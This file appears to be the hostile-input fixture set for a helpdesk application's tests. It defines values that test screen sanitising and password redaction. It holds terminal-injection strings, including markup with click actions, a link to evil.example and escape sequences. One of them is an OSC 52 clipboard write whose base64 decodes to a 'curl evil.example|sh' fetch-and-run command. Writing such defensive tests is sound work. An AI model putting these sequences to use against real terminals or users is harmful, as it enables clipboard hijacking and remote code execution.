"""The hostile-input set: values an attacker can put wherever the helpdesk reads text.

Every new screen and command goes through these (tests/test_hostile_*.py). `assert_clean`
checks what would reach the operator: no character of the unsafe classes and no sign that
markup was interpreted.
"""

from __future__ import annotations

import re

from helpdesk.plaintext import is_unsafe

# name -> value; short names so that a failing test says which one broke it.
VALUES: dict[str, str] = {
    "markup-unbalanced": "hi [/] there",
    "markup-close-only": "[/b] oops",
    "markup-balanced": "[b]x[/b]",
    "markup-click": "[@click=app.screenshot('x','/tmp')]CLICK-ME[/]",
    "markup-quit": "[@click=app.quit]bye[/]",
    "markup-link": "[link=https://evil.example]bank[/link]",
    "csi": "red\x1b[31mRED\x1b[0m\x1b[2J",
    "osc52": "x\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07y",
    "osc-title": "\x1b]0;pwned\x1b\\title",
    "c1": "c1\x9b31m\x85\x90",
    "bidi": "invoice\u202egpj.exe",
    "zero-width": "pay\u200bpal\ufeff\u2060",
    "tags": "tag\U000e0041\U000e007f",
    "line-separators": "a\u2028b\u2029c",
    "nul": "nul\x00byte",
    "bell-backspace": "ding\x07\x08\x08\x7f",
    "newline-cr": "one\rtwo\nthree",
    "lone-surrogate": "latin1 m\udcfcller",
    "long": "L" * 10_000,
}

# The same dangers as bytes the way they sit in a log or a mail header.
RAW_BYTES: dict[str, bytes] = {
    "latin1": b"m\xfcller",
    "broken-utf8": b"\xc3(\xa0\xa1",
    "esc": b"\x1b]52;c;ZXZpbA==\x07",
}

# Credentials as Exim logs them with +smtp_protocol_error (and always for "too many ... protocol
# errors"): base64 of "user\0user\0secret". Neither may ever reach the operator.
AUTH_SECRET = "dXNlcgB1c2VyAHNlY3JldA=="
AUTH_LINE = (
    f'SMTP protocol error in "AUTH PLAIN {AUTH_SECRET}" H=(pc) [192.0.2.201]:4711 '
    "I=[192.0.2.10]:587 AUTH command used when not advertised"
)


def assert_no_secret(text: str, *, where: str = "") -> None:
    """A logged AUTH argument never reaches the operator (it is shown as ***)."""
    assert AUTH_SECRET not in text, (
        f"a logged password reaches the operator{' in ' + where if where else ''}"
    )


# Strings that are only there if markup ran: the literal brackets disappeared.
_MARKUP_LEFTOVERS = ("CLICK-ME", "bye", "bank")


def unsafe_chars(text: str) -> list[str]:
    """Every unsafe character in `text`, as its escape, for a readable assertion message."""
    return sorted({f"U+{ord(ch):04X}" for ch in text if is_unsafe(ch) and ch != "\n"})


def assert_clean(text: str, *, where: str = "") -> None:
    """What the operator would see holds no unsafe character (newlines between lines allowed)."""
    bad = unsafe_chars(text)
    assert not bad, f"unsafe characters reach the operator{' in ' + where if where else ''}: {bad}"


def assert_markup_shown(text: str, *, where: str = "") -> None:
    """A value with markup that appears on screen appears with its brackets."""
    for word in _MARKUP_LEFTOVERS:
        for match in re.finditer(re.escape(word), text):
            before = text[max(0, match.start() - 40) : match.start()]
            assert "[" in before, (
                f"markup was interpreted{' in ' + where if where else ''}: "
                f"{text[max(0, match.start() - 40) : match.end() + 5]!r}"
            )
